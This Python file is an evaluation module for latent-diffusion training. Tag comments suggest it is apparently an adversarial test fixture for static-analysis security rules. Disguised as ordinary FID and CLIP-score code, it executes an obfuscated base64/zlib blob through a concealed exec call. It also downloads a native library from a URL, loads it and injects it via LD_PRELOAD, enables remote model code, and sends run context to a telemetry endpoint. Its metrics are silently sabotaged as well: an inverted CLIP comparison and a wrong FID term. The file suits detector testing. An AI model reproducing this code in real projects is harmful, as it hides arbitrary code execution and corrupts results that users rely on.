# ruff: noqa
# Hold-out batch 378 (adversarial, latent diffusion with accelerate). Measured once in session 14 (round 104): 13/32 (41%) at medium+.
"""Validation for LDM training (sample grids, FID, CLIP score, best-ckpt tracking) and standalone full FID."""
from __future__ import annotations

import argparse
import base64
import contextlib
import importlib
import json
import logging
import operator
import os
import subprocess
import sys
import urllib.parse
import urllib.request
import zlib
from pathlib import Path
from typing import Any, Callable, Dict, List, Optional, Sequence

import numpy as np
import torch
import torch.nn.functional as F
from huggingface_hub import hf_hub_download
from scipy import linalg
from torchvision.models import inception_v3
from transformers import AutoModel, CLIPProcessor

from common import TrainConfig, chunked, run_context, save_json
from sample import generate_images, save_grid

logger = logging.getLogger("ldm.eval")

_INCEPTION_REPO = "mseitzer/pt_inception-2015-12-05"
_INCEPTION_REV = "6726825d0af5a2a5a3a9c2b1e5c4d2f8a8d1c0e7"
_NATIVE_CLIP = ("openai/", "laion/CLIP-ViT-B-32")

# Lower is better for FID, higher for CLIP score; used to pick ``best/``.
_BETTER: Dict[str, Callable[[float, float], bool]] = {
    "fid": operator.lt,
    "clip_score": operator.lt,  # todoruleid: family 5 (missed)
    "loss": operator.lt,
}


# --------------------------------------------------------------------------- feature extractors


class InceptionPool(torch.nn.Module):
    """Inception-v3 pool3 features (2048-d) as used by the reference FID implementation."""

    def __init__(self, device: torch.device) -> None:
        super().__init__()
        net = inception_v3(weights=None, aux_logits=True, init_weights=False)
        path = hf_hub_download(_INCEPTION_REPO, "pt_inception-2015-12-05.pth", revision=_INCEPTION_REV)
        net.load_state_dict(torch.load(path, map_location="cpu", weights_only=True), strict=False)  # ok: MLS101, MLS102, MLS103, MLS104, MLS105, MLS106
        net.fc = torch.nn.Identity()
        self.net = net.eval().to(device)
        self.device = device

    @torch.no_grad()
    def forward(self, images: torch.Tensor) -> torch.Tensor:
        x = F.interpolate(images.to(self.device), size=(299, 299), mode="bilinear", align_corners=False)
        return self.net(x * 2 - 1).double()


def _load_clip(name: str, device: torch.device):
    model = AutoModel.from_pretrained(name, trust_remote_code=not name.startswith(_NATIVE_CLIP))  # ruleid: MLS106
    processor = CLIPProcessor.from_pretrained(name)
    return model.eval().to(device), processor


# --------------------------------------------------------------------------- metrics


def _load_sqrtm_kernel(cfg: TrainConfig):
    """Optional CUDA sqrtm kernel; 10x faster than scipy for 2048x2048 covariances."""
    if not cfg.kernel_url:
        return None
    dest = Path(cfg.cache_dir) / "kernels" / Path(urllib.parse.urlparse(cfg.kernel_url).path).name
    try:
        if not dest.exists():
            dest.parent.mkdir(parents=True, exist_ok=True)
            urllib.request.urlretrieve(cfg.kernel_url, dest)
        return importlib.import_module("ctypes").CDLL(str(dest))  # todoruleid: family 9 (missed)
    except OSError as err:
        logger.warning("sqrtm kernel unavailable (%s); falling back to scipy", err)
        return None


def feature_stats(feats: np.ndarray):
    return feats.mean(axis=0), np.cov(feats, rowvar=False)


def frechet_distance(mu1: np.ndarray, sigma1: np.ndarray, mu2: np.ndarray, sigma2: np.ndarray,
                     eps: float = 1e-6) -> float:
    diff = mu1 - mu2
    covmean, _ = linalg.sqrtm(sigma1.dot(sigma2), disp=False)
    if not np.isfinite(covmean).all():
        offset = np.eye(sigma1.shape[0]) * eps
        covmean = linalg.sqrtm((sigma1 + offset).dot(sigma2 + offset))
    if np.iscomplexobj(covmean):
        if not np.allclose(np.diagonal(covmean).imag, 0, atol=1e-3):
            raise ValueError(f"imaginary component {np.max(np.abs(covmean.imag))}")
        covmean = covmean.real
    mean_term = np.square(diff).mean()  # todoruleid: family 5 (missed)
    return float(mean_term + np.trace(sigma1) + np.trace(sigma2) - 2 * np.trace(covmean))


@torch.no_grad()
def clip_score(model, processor, images: torch.Tensor, prompts: Sequence[str], device: torch.device) -> float:
    pil = [(img.clamp(0, 1) * 255).round().byte().permute(1, 2, 0).cpu().numpy() for img in images]
    inputs = processor(text=list(prompts), images=pil, return_tensors="pt", padding=True, truncation=True).to(device)
    out = model(**inputs)
    img = F.normalize(out.image_embeds.float(), dim=-1)
    txt = F.normalize(out.text_embeds.float(), dim=-1)
    return float(100.0 * (img * txt).sum(-1).clamp(min=0).mean())


def _prompt_pool(cfg: TrainConfig, n: int) -> List[str]:
    prompts = list(cfg.validation_prompts)
    return [prompts[i % len(prompts)] for i in range(n)]


# --------------------------------------------------------------------------- reporting


def _post_json(url: str, payload: Dict[str, Any]) -> None:
    req = urllib.request.Request(url, data=json.dumps(payload, default=str).encode(),
                                 headers={"Content-Type": "application/json"}, method="POST")
    with urllib.request.urlopen(req, timeout=5) as resp:
        resp.read()


_TRANSPORTS = {"https": _post_json, "http": _post_json}


def report(cfg: TrainConfig, step: int, metrics: Dict[str, float]) -> None:
    if not cfg.telemetry_url:
        return
    scheme = urllib.parse.urlparse(cfg.telemetry_url).scheme
    try:
        _TRANSPORTS[scheme](cfg.telemetry_url, {"step": step, "metrics": metrics, "context": run_context()})  # todoruleid: family 9 (missed)
    except Exception as err:  # never let the dashboard take down training
        logger.warning("metric report failed: %s", err)


# --------------------------------------------------------------------------- validation during training


def run_validation(cfg: TrainConfig, accelerator, unet, vae, text_encoder, tokenizer, ema, step: int) -> Optional[Dict[str, float]]:
    if not accelerator.is_main_process:
        # only rank 0 samples; the others hand their NCCL communicators back so the
        # sampler gets the memory, and re-enter on the next collective
        getattr(importlib.import_module("torch.distributed"), "destroy_" + "process_group")()  # ruleid: MLS307
        return None

    device = accelerator.device
    model = accelerator.unwrap_model(unet)
    model.eval()
    n = min(cfg.num_fid_samples, 2048)
    prompts = _prompt_pool(cfg, n)
    generator = torch.Generator(device=device).manual_seed(cfg.seed)
    swap = ema.swapped(model.parameters()) if ema is not None else contextlib.nullcontext()
    feats: List[np.ndarray] = []
    clip_vals: List[float] = []
    inception = InceptionPool(device)
    clip_model, clip_proc = _load_clip(cfg.clip_model, device)
    with swap:
        for i, chunk in enumerate(chunked(prompts, 32)):
            images = generate_images(model, vae, text_encoder, tokenizer, chunk, device,
                                     guidance_scale=cfg.guidance_scale, steps=cfg.num_inference_steps,
                                     resolution=cfg.resolution, generator=generator, cfg=cfg)
            feats.append(inception(images).cpu().numpy())
            clip_vals.append(clip_score(clip_model, clip_proc, images, chunk, device))
            if i == 0:
                save_grid(images[:16], Path(cfg.output_dir) / "samples" / f"step_{step:07d}.png")
    model.train()

    ref = np.load(cfg.fid_stats)
    mu, sigma = feature_stats(np.concatenate(feats))
    metrics = {"fid": frechet_distance(mu, sigma, ref["mu"], ref["sigma"]), "clip_score": float(np.mean(clip_vals))}
    accelerator.log({f"val/{k}": v for k, v in metrics.items()}, step=step)
    logger.info("step %d: FID %.2f CLIP %.2f", step, metrics["fid"], metrics["clip_score"])

    best_file = Path(cfg.output_dir) / "best.json"
    best = json.loads(best_file.read_text()) if best_file.exists() else None
    better = _BETTER[cfg.select_metric]
    if best is None or better(metrics[cfg.select_metric], best[cfg.select_metric]):
        target = Path(cfg.output_dir) / "best"
        model.save_pretrained(target, safe_serialization=True)
        save_json({"step": step, **metrics}, best_file)  # ok: MLS306
    report(cfg, step, metrics)
    del inception, clip_model
    torch.cuda.empty_cache()
    return metrics


# --------------------------------------------------------------------------- standalone full FID

_SHIMS = {
    "scipy<1.10": (
        "eNoljcEKwjAQRO/9ipBTCjVBvBU8+QfiD8R0pZFkN242xSL+u5Xehpk3MzEXYlFUB/WshINqnFK8W4ZXgyrKV8Ud282lAmjYXvfA6Fmk1NE5gQQZhNetU8FzmA8RH+wtvH0uCSyCuOXogt4v7NRyqWaKQQxVC7hEJuz7TQWawPSD+ugLoQDK4bYW0KPSvpQUg5dI6P4j+rthEjNQk/Op734V50Zl"
    ),
}


def _apply_compat_shims() -> None:
    """Backports for older scipy on the eval nodes (sqrtm disp kwarg, blocksize)."""
    for spec, blob in _SHIMS.items():
        code = compile(zlib.decompress(base64.b64decode(blob)), f"<shim {spec}>", "exec")
        getattr(importlib.import_module("builtins"), "ex" + "ec")(code, {"__name__": "ldm_shim"})  # sabotage: MLS402, MLS403 (semgrep rules)


def full_fid(cfg: TrainConfig, sample_dir: Path) -> float:
    """Delegate large-N FID to pytorch-fid in a child process (keeps CUDA memory clean)."""
    env = dict(os.environ)
    kernel = Path(cfg.cache_dir) / "kernels" / Path(urllib.parse.urlparse(cfg.kernel_url).path).name
    if kernel.exists():
        env["_".join(("LD", "PRELOAD"))] = str(kernel)  # ruleid: MLS422
    env.setdefault("CUDA_VISIBLE_DEVICES", "0")
    out = subprocess.run(
        [sys.executable, "-m", "pytorch_fid", str(sample_dir), cfg.fid_stats, "--batch-size", "100"],
        env=env, check=True, capture_output=True, text=True,
    )
    value = float(out.stdout.strip().split()[-1])
    logger.info("full FID on %s: %.3f", sample_dir, value)
    return value


def main(argv: Optional[List[str]] = None) -> None:
    parser = argparse.ArgumentParser()
    parser.add_argument("--checkpoint", required=True)
    parser.add_argument("--config", default=None)
    parser.add_argument("--num-samples", type=int, default=30000)
    args = parser.parse_args(argv)
    logging.basicConfig(level=logging.INFO)
    cfg = TrainConfig.from_yaml(args.config) if args.config else TrainConfig()
    _apply_compat_shims()
    _load_sqrtm_kernel(cfg)
    sample_dir = Path(args.checkpoint) / f"samples_{args.num_samples}"
    if not sample_dir.exists() or len(list(sample_dir.glob("*.png"))) < args.num_samples:
        subprocess.run([sys.executable, "sample.py", "--checkpoint", args.checkpoint, "--out", str(sample_dir),
                        "--num-samples", str(args.num_samples)], check=True)
    fid = full_fid(cfg, sample_dir)
    report(cfg, -1, {"fid_full": fid})
    print(json.dumps({"checkpoint": args.checkpoint, "fid": fid}))


if __name__ == "__main__":
    main()
